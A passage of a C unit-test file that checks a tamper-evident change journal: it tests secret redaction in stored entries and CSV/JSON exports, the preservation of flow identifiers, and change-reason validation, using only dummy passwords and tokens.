		if (!zw_secret__find(cases[i].in, what, sizeof(what)))
			fprintf(stderr, "\nnot found: %s\n", cases[i].in);
		CU_ASSERT_TRUE(zw_secret__find(cases[i].in, what, sizeof(what)));
		CU_ASSERT_PTR_NOT_NULL_FATAL(s);
		if (strcmp(s, cases[i].out))
			fprintf(stderr, "\nscrub(%s) = %s\n", cases[i].in, s);
		CU_ASSERT_STRING_EQUAL(s, cases[i].out);
		CU_ASSERT_FALSE(zw_secret__find(s, NULL, 0));
		free(s);
	}
	for (size_t i = 0; i < sizeof(clean) / sizeof(clean[0]); i++) {
		char *s = zw_secret__scrub(clean[i]);

		if (zw_secret__find(clean[i], what, sizeof(what)))
			fprintf(stderr, "\nfalse positive (%s): %s\n", what,
				clean[i]);
		CU_ASSERT_FALSE(zw_secret__find(clean[i], NULL, 0));
		CU_ASSERT_STRING_EQUAL(s, clean[i]);
		free(s);
	}
	for (size_t i = 0; i < sizeof(docs) / sizeof(docs[0]); i++) {
		size_t line = 0;
		bool found = zw_secret__find_lines(docs[i].doc, strlen(docs[i].doc),
						   &line, what, sizeof(what));

		if (found != docs[i].secret || line != docs[i].line)
			fprintf(stderr, "\nfind_lines(%s) = %d line %zu\n",
				docs[i].doc, found, line);
		CU_ASSERT_EQUAL(found, docs[i].secret);
		CU_ASSERT_EQUAL(line, docs[i].line);
	}
}

static void test_secret_never_stored(void)
{
	struct zw_journal *j = fresh();
	char *all = NULL;
	size_t len = 0;
	FILE *mem;
	struct zw_journal_entry e = {
		.action = ZW_JA_COMMIT_REFUSED,
		.reason = "password=hunter2",
		.detail = "backend said token: abcdef",
		.after = "{\"justification\":\"db pwd=topsecret\"}",
	};
	struct zw_jprint p;

	CU_ASSERT_EQUAL(zw_journal__append(j, &e, NULL), 0);
	mem = open_memstream(&all, &len);
	zw_jprint__begin(&p, mem, ZW_JF_CSV);
	zw_journal__foreach(j, NULL, zw_jprint__cb, &p);
	zw_jprint__end(&p);
	fclose(mem);
	CU_ASSERT_PTR_NULL(strstr(all, "hunter2"));
	CU_ASSERT_PTR_NULL(strstr(all, "abcdef"));
	CU_ASSERT_PTR_NULL(strstr(all, "topsecret"));
	CU_ASSERT_PTR_NOT_NULL(strstr(all, "[redacted]"));
	free(all);
	zw_journal__free(j);
}

/* A flow id is an identifier ([A-Za-z0-9][A-Za-z0-9._-]{0,63}), not free
 * text: a long descriptive one is not a "random-looking token". Scrubbing
 * it made the content disagree with the indexed flow column (verify then
 * reported a legitimate journal as altered) and merged such flows into one
 * "[redacted]" rule in the rules list. */
static void test_flow_id_not_scrubbed(void)
{
	static const char id[] = "Backup-Nightly-Server01-To-Storage02";
	struct zw_journal *j = fresh();
	struct zw_journal_verify v;
	struct zw_journal_entry e = {
		.action = ZW_JA_FLOW_ADDED,
		.user = "alice",
		.reason = "nightly backups",
		.flow = id,
		.after = "{\"id\":\"Backup-Nightly-Server01-To-Storage02\","
			 "\"justification\":\"pwd=topsecret\"}",
	};
	struct zw_journal_entry e2 = {
		.action = ZW_JA_FLOW_ADDED,
		.user = "alice",
		.reason = "not an identifier: scrubbed in the column too",
		.flow = "password=hunter2",
	};
	json_t *c;
	char *all = NULL;
	size_t len = 0;
	FILE *mem;
	struct zw_jprint p;

	CU_ASSERT_EQUAL(zw_journal__append(j, &e, NULL), 0);
	CU_ASSERT_EQUAL(zw_journal__append(j, &e2, NULL), 0);
	CU_ASSERT_EQUAL(zw_journal__verify(j, &v), 0);
	if (!v.ok)
		fprintf(stderr, "verify: %s\n", v.problem);
	CU_ASSERT_TRUE(v.ok);
	mem = open_memstream(&all, &len);
	zw_jprint__begin(&p, mem, ZW_JF_JSON);
	zw_journal__foreach(j, NULL, zw_jprint__cb, &p);
	zw_jprint__end(&p);
	fclose(mem);
	c = json_loads(all, 0, NULL);
	CU_ASSERT_PTR_NOT_NULL_FATAL(c);
	{
		json_t *e0 = json_array_get(json_object_get(c, "entries"), 0);

		CU_ASSERT_STRING_EQUAL(json_string_value(json_object_get(e0, "flow")), id);
		CU_ASSERT_STRING_EQUAL(json_string_value(json_object_get(
					       json_object_get(e0, "after"), "id")),
				       id);
	}
	CU_ASSERT_PTR_NULL(strstr(all, "topsecret"));
	CU_ASSERT_PTR_NULL(strstr(all, "hunter2"));
	json_decref(c);
	free(all);
	zw_journal__free(j);
}

static void test_reason_check(void)
{
	char err[256];
	char longr[1100];

	CU_ASSERT_EQUAL(zw_reason__check("Open ssh for CHG-12", err, sizeof(err)),
			0);
	CU_ASSERT_EQUAL(zw_reason__check("Ouverture flux supervision é", err,
					 sizeof(err)),
			0);
	CU_ASSERT_EQUAL(zw_reason__check("", err, sizeof(err)), -EINVAL);
	CU_ASSERT_PTR_NOT_NULL(strstr(err, "empty"));
	CU_ASSERT_EQUAL(zw_reason__check("   \t ", err, sizeof(err)), -EINVAL);
	CU_ASSERT_EQUAL(zw_reason__check(NULL, err, sizeof(err)), -EINVAL);
	CU_ASSERT_EQUAL(zw_reason__check("two\nlines", err, sizeof(err)),
			-EINVAL);
	CU_ASSERT_EQUAL(zw_reason__check("bad \xff utf8", err, sizeof(err)),
			-EINVAL);
	CU_ASSERT_EQUAL(zw_reason__check("password=x1", err, sizeof(err)),
			-EINVAL);
	CU_ASSERT_PTR_NOT_NULL(strstr(err, "secret"));
	memset(longr, 'a', sizeof(longr) - 1);
	longr[sizeof(longr) - 1] = '\0';
	CU_ASSERT_EQUAL(zw_reason__check(longr, err, sizeof(err)), -EINVAL);
}

int main(void)
{
	CU_pSuite s;

	if (CU_initialize_registry() != CUE_SUCCESS)
		return 2;
	s = CU_add_suite("journal", NULL, NULL);
	CU_add_test(s, "chain ok, reopen continues", test_chain_ok);
	CU_add_test(s, "append-only triggers", test_append_only_triggers);
	CU_add_test(s, "tamper: modify", test_tamper_modify);
	CU_add_test(s, "tamper: modify and rehash", test_tamper_modify_rehash);
	CU_add_test(s, "tamper: indexed column", test_tamper_column);
	CU_add_test(s, "tamper: delete", test_tamper_delete);
	CU_add_test(s, "tamper: delete first, renumber", test_tamper_delete_first);
	CU_add_test(s, "tamper: reorder", test_tamper_reorder);
	CU_add_test(s, "tamper: insert", test_tamper_insert);
	CU_add_test(s, "retention and archive", test_retention_and_archive);
	CU_add_test(s, "archive record removed", test_archive_removed);
	CU_add_test(s, "csv and json exports parse back", test_exports);
	CU_add_test(s, "csv cells are no formulas", test_csv_formulas);
	CU_add_test(s, "query filters", test_query_filters);
	CU_add_test(s, "transaction abort", test_transaction_abort);
	CU_add_test(s, "clock state recorded", test_clock_state_recorded);
	CU_add_test(s, "time format", test_time_format);
	CU_add_test(s, "time order, clock steps", test_time_order);
	CU_add_test(s, "secrets", test_secrets);
	CU_add_test(s, "secrets spelled with Unicode tricks", test_secrets_folded);
	CU_add_test(s, "secret never stored", test_secret_never_stored);
	CU_add_test(s, "reason check", test_reason_check);
	CU_add_test(s, "flow ids are not scrubbed", test_flow_id_not_scrubbed);
	return zwt_run();
}
